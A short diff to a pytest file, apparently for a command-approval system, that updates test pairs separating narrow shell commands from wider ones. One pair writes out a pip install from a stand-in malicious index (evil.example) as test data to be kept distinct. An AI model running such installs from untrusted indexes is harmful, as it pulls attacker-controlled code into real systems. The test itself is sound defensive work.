@@ -248,8 +248,8 @@ def test_approvals_of_an_unknown_tool_never_promote_it(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize(("narrow", "other"), [
-    ("pip install requests", "pip install --index-url http://evil.example/simple requests"),
-    ("npm install left-pad", "npm install -g left-pad"),
+    ("pip install --user requests", "pip install --user --index-url http://evil.example/simple requests"),
+    ("npm install github:x/left-pad", "npm install -g left-pad"),
     ("git checkout -- src/a.py", "git checkout -- ."),
 ])
 def test_a_wider_shape_is_a_kind_of_its_own(narrow: str, other: str) -> None:
